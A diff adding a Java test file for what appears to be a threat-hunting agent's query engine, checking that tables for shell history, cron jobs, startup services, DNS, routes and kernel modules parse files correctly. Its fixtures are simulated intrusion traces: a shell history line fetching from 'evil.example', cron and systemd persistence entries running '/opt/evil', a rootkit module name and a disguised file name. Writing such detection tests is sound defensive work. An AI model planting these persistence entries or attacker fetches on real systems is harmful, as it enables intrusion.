@@ -1,0 +1,135 @@
+package io.hunt.agent.builtin;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.hunt.agent.machine.Machine;
+import io.hunt.agent.query.QueryEngine.Examination;
+import io.hunt.agent.query.QueryResult;
+import io.hunt.agent.query.QueryResult.Incomplete;
+import io.hunt.agent.query.QueryResult.Rows;
+import io.hunt.agent.query.QueryResult.Unsupported;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.DisplayNameGeneration;
+import org.junit.jupiter.api.DisplayNameGenerator;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.condition.EnabledOnOs;
+import org.junit.jupiter.api.condition.OS;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+@EnabledOnOs(OS.LINUX)
+@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
+class LinuxTablesTest {
+
+    @TempDir
+    Path root;
+
+    @BeforeEach
+    void addAUser() throws IOException {
+        write("etc/hosts", "127.0.0.1 localhost\n");
+        write("etc/passwd", "eve:x:1007:1007:Eve:" + root + "/home/eve:/bin/sh\n");
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "home/eve/.bash_history|ls\\ncurl http://evil.example/a\\n|SELECT uid, time, command FROM shell_history WHERE command LIKE 'curl%'|{`uid`:`1007`,`time`:`0`,`command`:`curl http://evil.example/a`}",
+                "home/eve/.bash_history|#1700000000\\ncurl x\\n|SELECT time, command FROM shell_history|{`time`:`1700000000`,`command`:`curl x`}",
+                "home/eve/.zsh_history|: 1700000000:0;curl x\\n|SELECT time, command FROM shell_history|{`time`:`1700000000`,`command`:`curl x`}",
+                "home/eve/.ash_history|wget x\\n|SELECT command FROM shell_history|{`command`:`wget x`}",
+                "etc/crontab|# c\\nPATH=/bin\\n5 * * * * root /opt/evil -d\\n|SELECT minute, command FROM crontab|{`minute`:`5`,`command`:`root /opt/evil -d`}",
+                "etc/cron.d/evil|@reboot root /opt/evil\\n|SELECT event, minute, command FROM crontab|{`event`:`@reboot`,`minute`:``,`command`:`root /opt/evil`}",
+                "var/spool/cron/crontabs/eve|* * * * * /opt/evil\\n|SELECT command FROM crontab|{`command`:`/opt/evil`}",
+                "etc/systemd/system/evil.service|[Service]\\nExecStart=-/opt/evil \\\\\\n --x\\n|SELECT name, args FROM startup_items WHERE args <> ''|{`name`:`evil.service`,`args`:`/opt/evil   --x`}",
+                "etc/systemd/system/good.service.d/x.conf|[Service]\\nExecStartPre=+/opt/evil\\n|SELECT args FROM startup_items WHERE args <> ''|{`args`:`/opt/evil`}",
+                "home/eve/.config/systemd/user/a.service|ExecStop=/opt/evil\\n|SELECT username, args FROM startup_items WHERE args <> ''|{`username`:`eve`,`args`:`/opt/evil`}",
+                "home/eve/.config/autostart/a.desktop|Exec=/opt/evil -d\\n|SELECT path, args, username FROM startup_items|{`path`:`/opt/evil`,`args`:`-d`,`username`:`eve`}",
+                "etc/resolv.conf|# c\\nnameserver 192.0.2.7\\nsearch evil.example b.example\\n|SELECT id, type, address FROM dns_resolvers WHERE id = 0|{`id`:`0`,`type`:`nameserver`,`address`:`192.0.2.7`}",
+                "proc/net/route|Iface D G F\\neth0 00000000 070200C0 0003 0 0 100 00000000 0 0 0\\n|SELECT gateway, netmask, interface FROM routes|{`gateway`:`192.0.2.7`,`netmask`:`0`,`interface`:`eth0`}",
+                "proc/net/arp|IP\\n192.0.2.7 0x1 0x2 02:00:00:00:00:01 * eth0\\n|SELECT address, mac FROM arp_cache|{`address`:`192.0.2.7`,`mac`:`02:00:00:00:00:01`}",
+                "proc/modules|diamorphine 16384 0 - Live 0x0 (OE)\\n|SELECT name, size FROM kernel_modules|{`name`:`diamorphine`,`size`:`16384`}",
+                "proc/7/maps|00400000-00452000 r-xp 0a 08:02 17 /opt/e vil.so\\n00452000-00453000 r-xp 0a 08:02 17 /opt/e vil.so\\n|SELECT pid, path FROM process_memory_map|{`pid`:`7`,`path`:`/opt/e vil.so`}"
+            })
+    void a_table_shows_what_its_files_hold(String file, String content, String sql, String row) throws IOException {
+        write(file, content.replace("\\n", "\n").replace("\\\\", "\\"));
+
+        assertThat(found(run(sql))).containsExactly(row.replace('`', '"'));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"home/eve/.bash_history", "home/eve/.zsh_history", "etc/crontab", "etc/resolv.conf"})
+    void a_table_of_a_file_that_is_too_long_is_incomplete(String file) throws IOException {
+        write(file, "x y z\n".repeat(8 * 1024 * 1024 / 6 + 1));
+        String table = file.startsWith("home") ? "shell_history" : file.endsWith("crontab") ? "crontab" : "dns_resolvers";
+
+        assertThat(run("SELECT 1 FROM " + table + " LIMIT 0")).isInstanceOf(Incomplete.class);
+        assertThat(run("SELECT 1 FROM etc_hosts LIMIT 0")).isInstanceOf(Rows.class);
+    }
+
+    @Test
+    void a_fifo_is_not_opened_and_a_missing_file_is_no_gap() throws Exception {
+        Files.createDirectories(root.resolve("home/eve"));
+        assertThat(new ProcessBuilder("mkfifo", root.resolve("home/eve/.bash_history").toString())
+                        .start()
+                        .waitFor())
+                .isZero();
+
+        assertThat(run("SELECT 1 FROM shell_history UNION SELECT 1 FROM crontab UNION SELECT 1 FROM startup_items"))
+                .isEqualTo(new Rows(List.of(), false));
+    }
+
+    @Test
+    void null_is_sent_as_null_and_texts_as_they_are() throws IOException {
+        write("home/eve/.bash_history", "invoice\u202efdp.exe \n");
+
+        assertThat(found(run("SELECT NULL AS a, '' AS b, command FROM shell_history")))
+                .containsExactly("{\"a\":null,\"b\":\"\",\"command\":\"invoice\u202efdp.exe \"}");
+    }
+
+    @ParameterizedTest
+    @EnumSource(names = {"MACOS", "WINDOWS"})
+    void a_statement_about_a_table_that_is_not_collected_is_incomplete(Machine.Kind kind) {
+        assertThat(run(kind, "SELECT path FROM startup_items")).isInstanceOf(Incomplete.class);
+        assertThat(run(kind, "SELECT gateway FROM routes")).isInstanceOf(Incomplete.class);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"apt_sources", "chrome_extensions", "docker_containers", "nonsense"})
+    void a_statement_about_a_table_that_is_absent_is_unsupported(String table) {
+        assertThat(run("SELECT 1 FROM " + table)).isInstanceOf(Unsupported.class);
+    }
+
+    private void write(String file, String content) throws IOException {
+        Path path = root.resolve(file);
+        Files.createDirectories(path.getParent());
+        Files.writeString(path, content);
+    }
+
+    private QueryResult run(String sql) {
+        return run(Machine.Kind.LINUX, sql);
+    }
+
+    private QueryResult run(Machine.Kind kind, String sql) {
+        var machine = new Machine(
+                kind, root, root.resolve("proc"), root.resolve("etc/hosts"), root.resolve("etc/passwd"), List.of());
+        var engine = new BuiltInEngine(machine, Duration.ofSeconds(30), Duration.ofSeconds(20));
+        try (Examination examination = engine.examine(List.of(sql))) {
+            return examination.run(sql, 1_000);
+        }
+    }
+
+    private static List<String> found(QueryResult result) {
+        assertThat(result).isInstanceOf(Rows.class);
+        return ((Rows) result).rows().stream().map(row -> row.toStringUtf8()).toList();
+    }
+}
